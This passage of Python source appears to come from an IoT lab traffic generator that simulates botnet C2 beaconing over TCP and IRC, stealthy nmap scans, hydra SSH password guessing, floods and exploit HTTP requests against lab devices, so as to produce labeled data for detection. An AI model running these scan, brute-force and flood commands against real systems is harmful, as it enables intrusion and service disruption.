            ctx.lab.exec_quiet(host.role, ["ip", "neigh", "flush", "all"])


# -- command and control -------------------------------------------------------------------------------------

def _c2(ctx: ScenarioContext, mode: str, seconds: float, bots: Sequence[str], port: int | None = None,
        interval: float | None = None) -> tuple[list[subprocess.Popen[Any]], int]:
    port = port or (ctx.rng.choice([23, 48101, 1312, 6738]) if mode == "tcp" else ctx.rng.choice([6667, 6665, 7000]))
    interval = interval or ctx.rng.choice([3.0, 5.0, 8.0])
    cnc = ctx.host("cnc")
    ctx.involve(cnc)
    server = ctx.agent("cnc", "c2-server", "--bind", cnc.ip, "--port", port, "--mode", mode,
                       "--interval", interval, "--lan", ctx.network, "--deadline", f"{seconds + 5:.1f}")
    ctx.sleep(0.7)  # the controller listens before the first beacon
    procs = [server]
    for i, bot in enumerate(bots):
        procs.append(ctx.agent(bot, "c2-bot", "--server", ctx.lab.require_target(cnc.ip), "--port", port,
                               "--mode", mode, "--bot-id", f"{ctx.rng.randrange(16**6):06x}",
                               "--interval", interval, "--count", int(seconds / interval) + 1,
                               "--deadline", f"{seconds - i * 0.5:.1f}"))
        ctx.sleep(ctx.rng.uniform(0.2, 1.0))
    ctx.notes.append(f"{mode} C2 on {cnc.ip}:{port}, bots {', '.join(str(ctx.host(b).ip) for b in bots)}, "
                     f"every {interval:.0f}s")
    return procs, port


@scenario("c2-tcp-beacon", "attack", "c2", 20, [])
def c2_tcp_beacon(ctx: ScenarioContext) -> None:
    """Infected devices beaconing to a controller at fixed intervals over plain TCP, one short connection
    per beacon, and getting commands back."""
    seconds = ctx.secs(20, 4)
    procs, _ = _c2(ctx, "tcp", seconds, ctx.rng.sample(["bot", "cam", "plug", "tv"], ctx.rng.randint(2, 4)))
    ctx.wait(procs[1:], seconds + 10)


@scenario("c2-irc", "attack", "c2", 20, [])
def c2_irc(ctx: ScenarioContext) -> None:
    """Infected devices on an IRC-like channel: one long connection each, PING/PONG keep-alives at fixed
    intervals, commands posted to the channel and answered."""
    seconds = ctx.secs(20, 4)
    procs, _ = _c2(ctx, "irc", seconds, ctx.rng.sample(["bot", "cam", "plug", "tv"], ctx.rng.randint(2, 4)))
    ctx.wait(procs[1:], seconds + 10)


# -- mixed: attacks inside everyday traffic, labeled per flow -------------------------------------------------

@scenario("mixed-home-attacks", "benign", "", 35, ["nmap", "hydra", "mosquitto_pub", "coap-client-notls"],
          mixed=True)
def mixed_home_attacks(ctx: ScenarioContext) -> None:
    """Everyday LAN traffic while an outsider slowly scans the camera, another guesses the hub's SSH
    password and the compromised device beacons to its controller. Labeled per flow."""
    seconds = ctx.secs(35, 6)
    background = _background(ctx, seconds)
    ctx.sleep(ctx.rng.uniform(1, 4))
    scanner, guesser = (ctx.host(a) for a in ctx.rng.sample(["atk1", "atk2"], 2))
    cam, hub, bot = ctx.host("cam"), ctx.host("hub"), ctx.host("bot")
    ctx.attack_rules(scanner, cam, "scan")
    ctx.attack_rules(guesser, hub, "bruteforce", TCP, 22)
    ctx.attack_rules(bot, ctx.host("cnc"), "c2")
    attacks = [ctx.start(scanner.role, ["nmap", "-n", "-Pn", "-sS", "--top-ports", ctx.rng.choice([200, 500]),
                                        "-T3", "--scan-delay", f"{ctx.rng.choice([5, 20, 50])}ms", "--max-retries", "1",
                                        "--host-timeout", f"{int(seconds * 0.6)}s", ctx.lab.require_target(cam.ip)])]
    ctx.sleep(ctx.rng.uniform(1, 4))
    attacks.append(ctx.start(guesser.role, ["hydra", "-C", _wordlist(ctx), "-t", 2, "-I",
                                            ctx.lab.require_target(hub.ip), "ssh"]))
    procs, _ = _c2(ctx, "tcp", seconds * 0.8, ["bot"])
    ctx.notes.append(f"scan {scanner.ip} -> {cam.ip}; ssh guessing {guesser.ip} -> {hub.ip}:22; "
                     f"c2 {bot.ip} -> {ctx.host('cnc').ip}; everything else benign")
    ctx.wait(attacks, seconds * 0.7)
    ctx.wait(procs[1:] + background, seconds + 10)


@scenario("mixed-home-flood", "benign", "", 30, ["hping3", "curl", "mosquitto_pub", "coap-client-notls"],
          mixed=True)
def mixed_home_flood(ctx: ScenarioContext) -> None:
    """Everyday LAN traffic while an outsider floods the hub and another sends exploit requests to the
    camera's panel. Labeled per flow."""
    seconds = ctx.secs(30, 6)
    background = _background(ctx, seconds)
    ctx.sleep(ctx.rng.uniform(2, 5))
    flooder, exploiter = (ctx.host(a) for a in ctx.rng.sample(["atk1", "atk2"], 2))
    hub, cam = ctx.host("hub"), ctx.host("cam")
    kind = ctx.rng.choice(["syn", "udp", "icmp"])
    ctx.attack_rules(flooder, hub, "dos")
    ctx.attack_rules(exploiter, cam, "exploit", TCP, 80)
    flood = _flood(ctx, flooder, hub, kind, ctx.rng.choice([200, 500, 1000]), seconds * 0.3,
                   {"syn": 80, "udp": 5683, "icmp": None}[kind])
    picks = [ctx.rng.choice(_INJECTIONS) if ctx.rng.random() < 0.6 else ("GET", ctx.rng.choice(_TRAVERSALS), None, {})
             for _ in range(ctx.rng.randint(6, 14))]
    sent = _http_requests(ctx, exploiter, str(cam.ip), picks, time.monotonic() + seconds * 0.5)
    ctx.notes.append(f"{kind} flood {flooder.ip} -> {hub.ip}; {sent} exploit requests {exploiter.ip} -> {cam.ip}; "
                     "everything else benign")
    ctx.wait([flood], seconds)
    ctx.wait(background, seconds + 10)


# The infection scenarios register themselves (they build on the blocks above).
from iotscan.lab import infection as _infection  # noqa: E402,F401
